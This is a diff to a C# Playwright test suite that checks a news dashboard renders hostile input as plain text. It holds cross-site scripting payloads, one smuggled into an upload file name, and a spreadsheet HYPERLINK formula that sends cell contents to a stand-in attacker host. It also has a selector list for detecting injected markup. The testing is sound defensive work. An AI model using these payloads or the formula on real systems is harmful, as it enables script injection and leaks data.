@@ -1,4 +1,3 @@
-using System.Text.RegularExpressions;
 using Microsoft.Playwright;
 using NewsDashboard.EndToEnd.Tests.Support;
 using static Microsoft.Playwright.Assertions;
@@ -9,6 +8,9 @@ namespace NewsDashboard.EndToEnd.Tests.Pages;
 public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashboard) : BrowserStory(browser), IClassFixture<EmptyDashboard>
 {
     private const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"here\")";
+
+    /// <summary>Articles enough for a mean, so that the charts of tone name the outlet.</summary>
+    private const int Harmless = 6;
 
     private static readonly string[] Strings =
     [
@@ -33,7 +35,7 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
     /// <summary>What must not exist in the page, because only a string that became markup could have made it.</summary>
     private const string Traps =
         "[onerror], [onload], [onbegin], [onmouseover], [formaction], [srcdoc], iframe, math, animate, body base, body meta, main script, main style, "
-        + "a[href^='javascript:' i], [href*='evil.example'], [src*='evil.example']";
+        + "a[href^='javascript:' i], [href^='http://evil.example'], [src^='http://evil.example']";
 
     protected override Uri Server => dashboard.Address;
 
@@ -61,15 +63,14 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
 
         await page.ShowAsync("articles");
         var articles = await AddressesAsync(page.Locator(".article-list .article-title"));
-        Assert.Equal(Strings.Length, articles.Count);
+        Assert.Equal(Strings.Length + Harmless, articles.Count);
         foreach (var text in Strings)
             await Expect(page.Locator(".article-list").GetByText(text, new() { Exact = false }).First).ToBeVisibleAsync();
-        await OpenEachAsync(page, articles, ".reader");
+        Assert.Equal(Strings, await ReadEachAsync(page, articles, ".reader"));
 
         await page.ShowAsync("meetings");
         var meetings = await AddressesAsync(page.Locator(".meeting-table tbody a"));
-        Assert.NotEmpty(meetings);
-        await OpenEachAsync(page, meetings, ".report");
+        Assert.NotEmpty(await ReadEachAsync(page, meetings, ".report"));
     }
 
     [Fact]
@@ -122,22 +123,25 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
                 index == 9 ? "javascript:alert(30)" : $"https://news.example/{index}?q={text}");
         }
 
-        // Enough articles for a mean, so that the charts of tone name this outlet.
-        for (var number = 0; number < 6; number++)
+        for (var number = 0; number < Harmless; number++)
             file.Add($"Fair number {number}", $"The great fair of France opened in splendour for the {number}th time, to wide praise.", new DateOnly(2024, 2, 1).AddDays(number), Strings[1]);
         file.AddLine("""{"published": "<script>alert(21)</script>", "text": "<img src=x onerror=alert(22)>"}""");
         await page.Locator("#upload-files").SetInputFilesAsync(file.As("<img src=x onerror=alert(20)>.jsonl"));
         await Expect(page.GetByRole(AriaRole.Region, new() { Name = "Upload files" }).GetByRole(AriaRole.Status)).ToContainTextAsync("1 rejected");
     }
 
-    private static async Task OpenEachAsync(IPage page, IReadOnlyList<string> addresses, string text)
+    /// <summary>Opens each, and tells which of the strings were shown there as they are.</summary>
+    private static async Task<IReadOnlyList<string>> ReadEachAsync(IPage page, IReadOnlyList<string> addresses, string where)
     {
+        var texts = new List<string>();
         foreach (var address in addresses)
         {
             await page.ShowAsync(address);
-            await Expect(page.Locator(text).First).ToContainTextAsync(new Regex("[<&{%=]"));
+            texts.Add(await page.Locator(where).First.InnerTextAsync());
             await IsHarmlessAsync(page);
         }
+
+        return [.. Strings.Where(wanted => texts.Any(text => text.Contains(wanted, StringComparison.Ordinal)))];
     }
 
     private static async Task IsHarmlessAsync(IPage page) => await Expect(page.Locator(Traps)).ToHaveCountAsync(0);
